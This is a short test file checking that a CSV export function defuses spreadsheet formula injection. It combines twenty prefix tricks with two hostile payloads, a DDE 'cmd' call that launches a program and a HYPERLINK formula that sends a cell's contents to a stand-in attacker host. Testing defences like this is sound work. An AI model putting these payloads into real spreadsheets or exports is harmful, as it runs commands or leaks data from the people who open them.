import { expect, test } from 'vitest';
import { type Column, csvLines } from './csv.ts';

const column: Column<string>[] = [{ heading: 'one', value: (text) => text }];
const starts = [
  '=',
  '+',
  '-',
  '@',
  '\t',
  '\r',
  '\n',
  '＝',
  '＋',
  '－',
  '＠',
  '\0=',
  ' =',
  '\u00a0=',
  '\ufeff=',
  '\u200b=',
  '\t=',
  '\r\n=',
  '  +',
  '\0\t@',
];
const ends = ["cmd|' /C calc'!A0", 'HYPERLINK("https://evil.example/?"&A1,"open")'];
const formulas = starts.flatMap((start) => ends.map((end) => `${start}${end}`));

test('forty ways to begin a formula', () => expect(formulas).toHaveLength(40));

test.each(formulas)('%j is text for a spreadsheet', (formula) => {
  const line = csvLines(column, [formula]);
  expect(line).toMatch(/^"?'/);
});
